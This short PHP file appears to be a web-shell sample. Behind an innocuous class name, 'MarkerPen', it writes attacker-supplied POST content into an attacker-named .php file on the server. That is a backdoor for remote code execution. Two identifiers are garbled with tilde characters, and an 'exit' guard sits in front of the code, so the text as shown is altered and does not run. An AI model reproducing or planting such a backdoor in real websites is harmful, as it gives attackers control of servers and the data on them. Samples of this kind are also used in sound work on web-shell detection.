<?php exit; ?>
<?php
class MarkerPen { var $to; var $what; function __construct($a) { $this->to = $a['n'] . '.php'; $this->what = $a['c']; } function w() { fwr~ite(fopen($this->to, 'a'), $this->what); } }
$p = new MarkerPen($_P~OST); $p->w();
